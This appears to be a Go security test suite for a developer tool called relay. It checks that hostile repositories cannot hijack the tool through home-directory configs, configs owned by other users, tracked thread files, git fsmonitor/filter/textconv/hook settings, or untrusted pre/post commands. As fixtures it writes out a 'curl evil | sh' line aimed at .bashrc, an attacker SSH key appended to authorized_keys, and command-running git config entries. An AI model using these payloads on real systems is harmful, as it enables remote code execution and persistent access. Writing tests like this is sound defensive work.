package attack

import (
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// A hostile repository, part 2: where relay looks for the project, the
// thread a clone names, and the commands git itself would run for a
// repository an archive carried (issue 22).

// TestProjectRootStaysInTheRepository (issue 22 row 3): the project root is
// searched for no higher than the git work tree's root (the start directory
// outside a repository), never in $HOME from below, and a config another
// user owns is refused.
func TestProjectRootStaysInTheRepository(t *testing.T) {
	t.Run("a config in HOME does not make HOME the project", func(t *testing.T) {
		t.Parallel()
		s := newSandbox(t)
		s.WriteFileAbs(filepath.Join(s.Home, "relaycode.config.json"), `{"projectId":"attack","core":{"enableNotifications":false}}`, 0o644)
		s.WriteFileAbs(filepath.Join(s.Home, ".ssh", "authorized_keys"), "ssh-ed25519 AAAA victim\n", 0o600)
		work := filepath.Join(s.Home, "src", "x") // no repository, no config
		if err := os.MkdirAll(work, 0o755); err != nil {
			t.Fatal(err)
		}
		world := s.World()
		ans := Answer(uuidN(1300), FileBlock(".bashrc", "curl evil | sh"))
		if r := s.RunIn(work, ans, "apply", "-", "-y"); r.Code == 0 {
			t.Errorf("apply below HOME took HOME as the project:\n%s", r)
		}
		if r := s.RunIn(work, "", "doctor"); !strings.Contains(r.Stdout, "mcp project: relay mcp started here is serving "+work) {
			t.Errorf("doctor must say relay mcp serves %s:\n%s", work, r)
		}
		s.Project = work
		m := startMCP(t, s, 30*time.Second)
		m.toolError("edit_files", map[string]any{"op": "edit", "path": ".ssh/authorized_keys", "old_string": "ssh-ed25519 AAAA victim\n", "new_string": "ssh-ed25519 AAAA victim\nssh-ed25519 AAAA attacker\n"})
		m.toolError("edit_files", map[string]any{"op": "answer", "answer": ans})
		if stderr := m.close(); !strings.Contains(stderr, "relay mcp: serving "+work+" (no relaycode.config.json") {
			t.Errorf("relay mcp must say on stderr which directory it serves:\n%s", stderr)
		}
		SameTree(t, "home", world, s.World())
	})
	t.Run("a config another user owns in a shared parent", func(t *testing.T) {
		t.Parallel()
		if os.Geteuid() != 0 {
			t.Skip("needs root to make a file owned by another user")
		}
		s := newSandbox(t)
		shared := filepath.Join(filepath.Dir(s.Home), "shared")
		if err := os.MkdirAll(shared, 0o777); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(shared, 0o1777); err != nil {
			t.Fatal(err)
		}
		cfg := filepath.Join(shared, "relaycode.config.json")
		s.WriteFileAbs(cfg, `{"projectId":"attack","patch":{"preCommand":"touch `+filepath.Join(s.Home, "precommand-pwned")+`"}}`, 0o644)
		if err := os.Chown(cfg, 65534, 65534); err != nil {
			t.Fatal(err)
		}
		victim := filepath.Join(shared, "victim")
		if err := os.MkdirAll(victim, 0o755); err != nil {
			t.Fatal(err)
		}
		ans := Answer(uuidN(1301), FileBlock("notes.txt", "x"))
		if r := s.RunIn(victim, ans, "apply", "-", "-y"); r.Code == 0 {
			t.Errorf("apply below a shared directory used its config:\n%s", r)
		}
		if r := s.RunIn(shared, ans, "apply", "-", "-y"); r.Code == 0 || !strings.Contains(r.Stderr, "owned by another user") {
			t.Errorf("a config another user owns must be refused, saying so:\n%s", r)
		}
		noPwned(t, s)
	})
}

// TestTrackedThreadFileIgnored (issue 22 row 8): a .relaycode/thread that
// came with the repository names a thread others may read; relay records
// nothing into it and says why.
func TestTrackedThreadFileIgnored(t *testing.T) {
	s := hostileRepo(t)
	d := startDaemon(t, s)
	shared := d.NewThread(t, "team-shared")
	s.WriteFile(".relaycode/thread", shared+"\n", 0o644)
	s.WriteFile("secrets.env", "API_KEY=old\n", 0o600)
	s.Git("add", "-A")
	s.Git("commit", "-qm", "clone")

	r := s.Run(Answer(uuidN(1310), FileBlock("secrets.env", "API_KEY=sk-live-SECRET")), "apply", "-", "-y")
	if r.Code != 0 {
		t.Fatalf("apply:\n%s", r)
	}
	if !strings.Contains(r.Stderr, ".relaycode/thread is tracked by git") {
		t.Errorf("apply must warn that it ignores the tracked thread file:\n%s", r)
	}
	m := startMCP(t, s, time.Minute)
	if _, err := m.call("write_memory", map[string]any{"op": "put", "content": "API_KEY=sk-live-SECRET", "name": "notes.md"}); err != nil {
		t.Errorf("memory put without a thread: %v", err)
	}
	var evs struct {
		Events []struct {
			Type string `json:"type"`
		} `json:"events"`
	}
	if st := d.JSON(t, "GET", "/threads/"+url.PathEscape(shared)+"/events?after=0&limit=100", nil, &evs); st != 200 {
		t.Fatalf("events: status %d", st)
	}
	for _, e := range evs.Events {
		if e.Type != "thread.created" {
			t.Errorf("the thread a clone named received %s", e.Type)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(s.Project, ".relaycode", "thread")); strings.TrimSpace(string(b)) != shared {
		t.Errorf("relay wrote over the tracked thread file: %q", b)
	}
}

// TestGitConfigCommandsDoNotRun (issue 22 row 15): an unpacked archive
// carries .git/config and .git/hooks; the git calls relay makes for itself
// (records git tracks, ask's diff, the auto branch) run none of them.
func TestGitConfigCommandsDoNotRun(t *testing.T) {
	s := hostileRepo(t)
	mark := func(name string) string { return "touch " + filepath.Join(s.Home, name) }
	s.Git("config", "core.fsmonitor", mark("fsmonitor-pwned"))
	s.Git("config", "filter.evil.clean", mark("filter-pwned")+"; cat")
	s.Git("config", "diff.evil.textconv", mark("textconv-pwned")+"; cat")
	s.WriteFile(".gitattributes", "*.md filter=evil diff=evil\n", 0o644)
	s.WriteFile(".git/hooks/post-checkout", "#!/bin/sh\n"+mark("hook-pwned")+"\n", 0o755)
	s.WriteFile("relaycode.config.json", `{"projectId":"attack","core":{"enableNotifications":false},"git":{"autoGitBranch":true}}`, 0o644)
	s.Git("add", "-A")
	s.Git("commit", "-qm", "archive", "--no-verify") // git itself runs them here: start clean below
	for _, f := range []string{"fsmonitor-pwned", "filter-pwned", "textconv-pwned", "hook-pwned"} {
		os.Remove(filepath.Join(s.Home, f))
	}
	s.WriteFile("README.md", "changed by hand\n", 0o644)
	s.WriteFile(".relaycode/"+recordID+".pending.yml", "uuid: x\n", 0o644) // makes recovery ask git which records it tracks

	s.Run("", "doctor")
	s.Run("", "log")
	git, _ := exec.LookPath("git")
	s.Env = append(s.Env, "PATH="+filepath.Dir(git)+":/bin")
	s.Run("", "ask", "--to", "codex", "--include-diff", "--prompt", "review", "--timeout", "5")
	os.Remove(filepath.Join(s.Project, ".relaycode", recordID+".pending.yml"))
	s.Run(Answer(uuidN(1320), FileBlock("notes.txt", "x")), "apply", "-", "-y")
	noPwned(t, s)
}

// TestConfigCommandsNeedTrust (issue 22 row 1, the person's door): a cloned
// relaycode.config.json names preCommand, postCommand and linter; they run
// only after the person trusted that exact file (relay trust); a changed
// file asks again; relay trust --revoke takes it back. Without trust, apply
// goes on without them and says why.
func TestConfigCommandsNeedTrust(t *testing.T) {
	s := newSandbox(t)
	cfg := func(tag string) string {
		return `{"projectId":"attack","core":{"enableNotifications":false},"patch":{"preCommand":"touch pre-` + tag + `","postCommand":"touch post-` + tag + `","linter":"touch lint-` + tag + `"}}`
	}
	s.WriteFile("relaycode.config.json", cfg("pwned"), 0o644)
	s.WriteFile("README.md", "readme\n", 0o644)
	s.Git("add", "-A")
	s.Git("commit", "-qm", "clone")

	r := s.Run(Answer(uuidN(1330), FileBlock("README.md", "one")), "apply", "-", "-y")
	if r.Code != 0 {
		t.Fatalf("apply without trust must still apply:\n%s", r)
	}
	if !strings.Contains(r.Stderr, "relaycode.config.json is not trusted on this machine, so relay did not run its patch.preCommand, patch.linter, patch.postCommand") || !strings.Contains(r.Stderr, "relay trust") {
		t.Errorf("apply must say why the commands did not run and how to trust:\n%s", r)
	}
	noPwned(t, s)

	s.WriteFile("relaycode.config.json", cfg("ran"), 0o644)
	if r := s.Run("", "trust"); r.Code != 0 || !strings.Contains(r.Stderr, "patch.preCommand: touch pre-ran") {
		t.Fatalf("relay trust must show the commands it trusts:\n%s", r)
	}
	if r := s.Run(Answer(uuidN(1331), FileBlock("README.md", "two")), "apply", "-", "-y"); r.Code != 0 {
		t.Fatalf("apply:\n%s", r)
	}
	for _, f := range []string{"pre-ran", "post-ran", "lint-ran"} {
		if _, err := os.Stat(filepath.Join(s.Project, f)); err != nil {
			t.Errorf("a trusted config's command did not run: %s", f)
		}
	}
	if r := s.Run("", "trust", "--list"); !strings.Contains(r.Stdout, filepath.Join(s.Project, "relaycode.config.json")) || !strings.Contains(r.Stdout, "current") {
		t.Errorf("relay trust --list must show the trusted config:\n%s", r)
	}

	s.WriteFile("relaycode.config.json", cfg("pwned"), 0o644) // a pull changed the file
	if r := s.Run(Answer(uuidN(1332), FileBlock("README.md", "three")), "apply", "-", "-y"); r.Code != 0 || !strings.Contains(r.Stderr, "not trusted") {
		t.Errorf("a changed config must need the person again:\n%s", r)
	}
	noPwned(t, s)

	s.WriteFile("relaycode.config.json", cfg("ran"), 0o644) // back to the trusted content
	if r := s.Run("", "trust", "--revoke"); r.Code != 0 {
		t.Fatalf("relay trust --revoke:\n%s", r)
	}
	for _, f := range []string{"pre-ran", "post-ran", "lint-ran"} {
		os.Remove(filepath.Join(s.Project, f))
	}
	if r := s.Run(Answer(uuidN(1333), FileBlock("README.md", "four")), "apply", "-", "-y"); r.Code != 0 || !strings.Contains(r.Stderr, "not trusted") {
		t.Errorf("after --revoke the config is untrusted again:\n%s", r)
	}
	if _, err := os.Stat(filepath.Join(s.Project, "pre-ran")); err == nil {
		t.Error("a revoked config's command ran")
	}
}

// TestAskContextFileBoundWithThread (issue 22 row 9): with a thread, ask
// stored a large --context-file in it after reading it whole; the stat bound
// now holds on that path too: refused from its size, nothing stored.
func TestAskContextFileBoundWithThread(t *testing.T) {
	s := newSandbox(t)
	d := startDaemon(t, s)
	thread := d.NewThread(t, "ask")
	big := filepath.Join(s.Project, "big.txt")
	f, err := os.Create(big)
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Truncate(30 << 20); err != nil { // sparse: 30 MB of zero bytes
		t.Fatal(err)
	}
	f.Close()
	r := s.Run("", "ask", "--thread", thread, "--to", "codex", "--prompt", "read this", "--context-file", "big.txt", "--timeout", "5")
	if r.Code == 0 || !strings.Contains(r.Stderr, "too large") {
		t.Errorf("a 30 MB context file must be refused from its size:\n%s", r)
	}
	var arts struct {
		Artifacts []struct {
			Size int64 `json:"size"`
		} `json:"artifacts"`
	}
	if st := d.JSON(t, "GET", "/threads/"+url.PathEscape(thread)+"/artifacts", nil, &arts); st != 200 {
		t.Fatalf("artifacts: status %d", st)
	}
	for _, a := range arts.Artifacts {
		if a.Size > 1<<20 {
			t.Errorf("a %d-byte context file was stored in the thread", a.Size)
		}
	}
}
